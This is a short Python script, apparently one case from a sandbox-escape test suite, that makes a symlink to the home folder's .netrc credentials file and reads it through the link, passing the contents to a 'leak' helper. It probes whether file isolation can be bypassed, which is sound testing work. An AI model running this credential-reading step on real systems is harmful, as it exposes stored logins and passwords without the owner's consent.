"""files: a symlink to the home folder's secret file, read through it."""

import os

from attacklib import *


def go():
    os.symlink(os.path.join(HOME, ".netrc"), "netrc")
    leak(open("netrc").read())


attempt("read through symlink", go)
